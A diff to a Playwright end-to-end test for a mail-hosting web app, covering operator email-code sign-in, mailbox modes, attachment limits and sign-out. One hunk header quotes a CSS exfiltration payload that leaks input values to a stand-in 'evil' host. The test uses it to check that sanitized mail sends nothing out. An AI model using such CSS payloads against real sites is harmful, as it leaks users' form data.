@@ -26,6 +26,7 @@ from playwright.sync_api import expect, sync_playwright
 BASE = os.environ["WEB_BASE"]
 HARNESS = os.environ["WEB_HARNESS"]
 OPERATOR_TOKEN = os.environ["WEB_OPERATOR_TOKEN"]
+OPERATOR = os.environ["WEB_OPERATOR"]
 AGENT_KEY = os.environ["WEB_AGENT_KEY"]
 SHOTS = os.environ["WEB_SHOTS"]
 CHROMIUM = os.environ.get("WEB_CHROMIUM", "/usr/bin/chromium")
@@ -147,7 +148,19 @@ def request_access(page, watch):
 
 def operator_approves(browser):
     page, watch = new_page(browser, "operator")
-    sign_in(page, OPERATOR_TOKEN)
+    # The local server's operator sign-in: a code mailed to the operator.
+    page.goto(BASE + "/")
+    signin = page.get_by_role("form", name="Operator sign-in")
+    signin.get_by_label("Operator email").fill(OPERATOR)
+    signin.get_by_role("button", name="Email me a sign-in code").click()
+    code = page.get_by_role("form", name="Operator code")
+    code.get_by_label("Sign-in code").fill("12345678")
+    watch.expect_refusal(401)
+    code.get_by_role("button", name="Sign in as operator").click()
+    expect(code.get_by_role("alert")).to_contain_text("not valid")
+    code.get_by_label("Sign-in code").fill(harness(f"/sign-in-code?to={OPERATOR}"))
+    code.get_by_role("button", name="Sign in as operator").click()
+    expect(page.locator("#nav")).to_be_visible()
     nav(page, "Operators")
     expect(page.get_by_role("heading", name="Access requests")).to_be_visible()
     page.get_by_role("form", name="Find access requests").get_by_label("Contact email").fill(PERSON)
@@ -215,6 +228,11 @@ def mailboxes(page, watch):
     add.get_by_label(re.compile("^Name")).fill("ann")
     add.get_by_role("button", name="Add mailbox").click()
     expect(page.locator('tr[data-mailbox="ann@newco.example"]')).to_contain_text("pending")
+    # The mail host applies the export: the mailbox is live.
+    harness("/apply", body={})
+    nav(page, "Domain")
+    nav(page, "Mailboxes")
+    expect(page.locator('tr[data-mailbox="ann@newco.example"]')).to_contain_text("live")
     # A forward without a target: the API's sentence, and the form keeps its input.
     add = page.get_by_role("form", name="Add mailbox")
     add.get_by_label(re.compile("^Name")).fill("sales")
@@ -226,6 +244,12 @@ def mailboxes(page, watch):
     add.get_by_label("Forward to").fill("sales@partner.example")
     add.get_by_role("button", name="Add mailbox").click()
     expect(page.locator('tr[data-mailbox="sales@newco.example"]')).to_contain_text("forward")
+    # Change its mode: stored here and forwarded.
+    page.locator('tr[data-mailbox="sales@newco.example"]').get_by_role("button", name="Change mode").click()
+    change = page.get_by_role("form", name="Change mode")
+    change.get_by_label("Mode").select_option("both")
+    change.get_by_role("button", name="Save mode").click()
+    expect(page.locator('tr[data-mailbox="sales@newco.example"]')).to_contain_text("both")
     # Delete it again; the last mailbox cannot be deleted.
     page.locator('tr[data-mailbox="sales@newco.example"]').get_by_role("button", name="Delete").click()
     page.get_by_role("button", name="Delete sales@newco.example").click()
@@ -272,6 +296,15 @@ def webmail(page, watch):
         files=[{"name": "agenda.txt", "mimeType": "text/plain", "buffer": b"1. Lunch\n2. Plans\n"}]
     )
     shot(page, "compose")
+    # Four files: refused before sending, and nothing typed is lost.
+    four = [{"name": f"f{i}.txt", "mimeType": "text/plain", "buffer": b"x"} for i in range(4)]
+    compose.get_by_label("Attachments").set_input_files(files=four)
+    compose.get_by_role("button", name="Send").click()
+    expect(compose.get_by_role("alert")).to_have_text("At most 3 attachments.")
+    expect(compose.get_by_label("Message")).to_have_value("Noon works. The agenda is attached.")
+    compose.get_by_label("Attachments").set_input_files(
+        files=[{"name": "agenda.txt", "mimeType": "text/plain", "buffer": b"1. Lunch\n2. Plans\n"}]
+    )
     compose.get_by_role("button", name="Send").click()
     messages = page.locator("article.message")
     expect(messages).to_have_count(2)
@@ -365,6 +398,9 @@ input[value^="a"] {{ background-image: url({evil}/exfil-a); }}</style>
     frame.locator("#jslink").click()
     page.wait_for_timeout(1500)
     shot(page, "malicious-mail")
+    page.get_by_role("button", name="Trash").click()
+    page.get_by_role("tab", name="Trash").click()
+    expect(page.locator("ul.threads")).to_contain_text("Totally harmless")
     # The cleaned mail did not even try.
     tried = [u for u in watch.urls if u.startswith(evil)]
     assert tried == [] and Listener.hits == [], (tried, Listener.hits)
@@ -447,6 +483,14 @@ def agent(browser):
     signs_out(page, watch, AGENT_KEY)
 
 
+def token_sign_in(browser):
+    """An operator pastes an identity token; it is gone after sign-out."""
+    page, watch = new_page(browser, "token")
+    sign_in(page, OPERATOR_TOKEN)
+    nav(page, "Operators")
+    signs_out(page, watch, OPERATOR_TOKEN)
+
+
 def drafts(page, watch):
     """An operator (an identity token) keeps a draft and finds it again."""
     nav(page, "Mail")
@@ -501,7 +545,11 @@ def main():
         drafts(op_page, op_watch)
         agent(browser)
         signs_out(page, watch, key)
-        signs_out(op_page, op_watch, OPERATOR_TOKEN)
+        op_page.get_by_role("button", name="Sign out").click()
+        expect(op_page.get_by_role("heading", name="Sign in")).to_be_visible()
+        assert op_page.evaluate("sessionStorage.length + localStorage.length") == 0
+        op_watch.check()
+        token_sign_in(browser)
         browser.close()
     print(json.dumps({"screenshots": shot_names}))
 
